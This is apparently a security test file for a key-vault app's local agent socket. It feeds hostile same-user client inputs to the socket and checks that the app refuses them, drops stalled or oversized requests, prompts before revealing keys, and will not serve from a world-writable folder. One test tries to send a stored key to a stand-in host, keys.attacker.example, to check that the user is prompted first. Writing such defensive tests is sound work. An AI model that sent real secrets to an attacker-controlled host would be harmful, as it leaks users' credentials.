// The open app's socket from a hostile client of the same user, against the app's side of it
// (main/cli/agent/appServer.ts) on a real unlocked session: garbage, unknown operations, a request too
// large, a client that stalls, another protocol version, a client asking the app to lock; and an app
// that will not serve from a folder other users can use.
import { chmodSync, existsSync, mkdirSync } from 'node:fs'
import { createConnection, type Socket } from 'node:net'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { serveCommandsWhileUnlocked, type CommandPrompt } from '../../main/cli/index'
import { agentPathsFor, type AgentPaths } from '../../main/cli/agent/runtimeFolder'
import { MAX_REQUEST_BYTES, PROTOCOL_VERSION } from '../../main/cli/agent/protocol'
import { VaultSession, createVault } from '../../main/vault/index'
import { fakeKeys } from '../support/fakeKeys'
import { socketExchange } from '../support/socketExchange'
import { TEST_KDF_COST, makeTempDirectory } from '../support/tempVault'

const PASSWORD = 'correct horse battery staple'
const clipiaLive = fakeKeys.clipiaLive()

let temp: ReturnType<typeof makeTempDirectory>
let paths: AgentPaths
let session: VaultSession
let stop: (() => void) | undefined
let logged: string[]
let asked: number
let prompts: CommandPrompt[]

const talk = (bytes: string | Buffer | null, connection: Socket = createConnection(paths.appSocket)): Promise<string> =>
  socketExchange(connection, bytes)
const ask = async (request: unknown) =>
  JSON.parse(await talk(`${JSON.stringify(request)}\n`)) as Record<string, unknown>

const serve = async (env: Record<string, string>) => {
  stop = serveCommandsWhileUnlocked({
    session,
    env,
    homeDirectory: temp.directory,
    readTimeoutMs: 300,
    log: (line) => logged.push(line),
    ask: async (prompt) => {
      asked += 1
      prompts.push(prompt)
      return 'deny'
    },
  })
  for (let tries = 0; logged.length === 0; tries++) {
    if (tries > 200) throw new Error('The app said nothing.')
    await sleep(10)
  }
}

beforeEach(async () => {
  temp = makeTempDirectory('keyward-app-agent-protocol-')
  const vaultPath = join(temp.directory, 'vault.keyward')
  const made = await createVault(vaultPath, PASSWORD, { kdfCost: TEST_KDF_COST })
  made.keys.add({ name: 'Clipia live', value: clipiaLive })
  made.close()
  session = new VaultSession({ vaultPath, kdfCost: TEST_KDF_COST })
  await session.unlock(PASSWORD)
  const runtime = join(temp.directory, 'run')
  mkdirSync(runtime, { mode: 0o700 })
  paths = agentPathsFor(vaultPath, { XDG_RUNTIME_DIR: runtime })
  logged = []
  asked = 0
  prompts = []
})

afterEach(() => {
  stop?.()
  session.lock('user')
  for (const secret of [clipiaLive, PASSWORD, 'Clipia']) expect(logged.join('\n')).not.toContain(secret)
  temp.cleanup()
})

describe("a hostile client of the app's socket", () => {
  it('gets a refusal for garbage, unknown operations, another version or a lock, and the app keeps serving', async () => {
    await serve({ XDG_RUNTIME_DIR: join(temp.directory, 'run') })
    const notARequest = {
      v: PROTOCOL_VERSION,
      ok: false,
      failure: { kind: 'error', code: 'invalid_argument', message: 'That is not a request the agent knows.' },
    }
    for (const bytes of ['not json\n', '{"v":1,"op":"key"}\n', '{"v":1,"op":"job","job":"vaultKey"}\n', '\u0000\n'])
      expect(JSON.parse(await talk(bytes))).toEqual(notARequest)
    expect(await ask({ v: PROTOCOL_VERSION + 1, op: 'job', job: 'list', input: {} })).toMatchObject({
      ok: false,
      failure: { message: `The Keyward app speaks protocol ${PROTOCOL_VERSION}.` },
    })
    expect(await ask({ v: PROTOCOL_VERSION, op: 'lock' })).toMatchObject({
      ok: false,
      failure: { message: 'The Keyward app locks from its own window; a command does not lock it.' },
    })
    expect(session.isUnlocked).toBe(true)
    expect(await ask({ v: PROTOCOL_VERSION, op: 'job', job: 'resolve', input: { references: 'all' } })).toMatchObject({
      ok: false,
      failure: { message: expect.stringMatching(/^The request for resolve is not valid/) },
    })
    expect(asked).toBe(0)
    const listed = await ask({ v: PROTOCOL_VERSION, op: 'job', job: 'list', input: {} })
    expect(listed).toMatchObject({ ok: true, value: { total: 1 } })
    expect(JSON.stringify(listed)).not.toContain(clipiaLive)
  })

  it('is dropped when it stalls or sends too much, while others are answered', async () => {
    await serve({ XDG_RUNTIME_DIR: join(temp.directory, 'run') })
    const stalled = talk('{"v":1,"op":"sta', createConnection(paths.appSocket))
    expect(await ask({ v: PROTOCOL_VERSION, op: 'status' })).toMatchObject({ ok: true })
    expect(await stalled).toBe('')
    expect(await talk(Buffer.alloc(MAX_REQUEST_BYTES + 10, 'a'))).toBe('')
    expect(logged).toEqual(
      expect.arrayContaining([
        'dropped a client that sent no whole request in time',
        'dropped a client whose request was too large',
      ]),
    )
  })

  it('gets no value without the prompt, and nothing when the prompt denies', async () => {
    await serve({ XDG_RUNTIME_DIR: join(temp.directory, 'run') })
    const reference = { text: 'keyward://Clipia live', name: 'Clipia live', path: null }
    const answer = await ask({
      v: PROTOCOL_VERSION,
      op: 'job',
      job: 'resolve',
      input: { references: [reference], audit: { action: 'value read', subject: 'x', detail: 'y' } },
    })
    expect(asked).toBe(1)
    expect(answer).toMatchObject({ ok: false, failure: { code: 'not_confirmed' } })
    expect(JSON.stringify(answer)).not.toContain(clipiaLive)
  })
})

describe('a test sent elsewhere through the app', () => {
  it("asks every time before keys go to a host of the command's choosing, offering Allow once only", async () => {
    await serve({ XDG_RUNTIME_DIR: join(temp.directory, 'run') })
    const test = (baseUrls: { provider: string; url: string }[]) =>
      ask({
        v: PROTOCOL_VERSION,
        op: 'job',
        job: 'test',
        input: { names: ['Clipia live'], all: false, baseUrls, extraCa: null },
      })
    const sent = await test([{ provider: 'clipia', url: 'https://keys.attacker.example:8443' }])
    expect(sent).toMatchObject({ ok: false, failure: { code: 'not_confirmed' } })
    expect(prompts).toEqual([
      expect.objectContaining({
        command: 'keyward test',
        keyNames: ['Clipia live'],
        sentTo: ['keys.attacker.example:8443'],
        terminalKnown: false,
      }),
    ])
  })
})

describe('the app', () => {
  it('does not serve from a folder other users can use', async () => {
    const runtime = join(temp.directory, 'open')
    mkdirSync(join(runtime, 'keyward'), { recursive: true })
    chmodSync(join(runtime, 'keyward'), 0o777)
    const open = agentPathsFor(session.vaultPath, { XDG_RUNTIME_DIR: runtime })
    await serve({ XDG_RUNTIME_DIR: runtime })
    expect(logged[0]).toMatch(/^cannot answer commands: The agent folder .* can be used by other users \(mode 777\)/)
    expect(existsSync(open.appSocket)).toBe(false)
  })
})
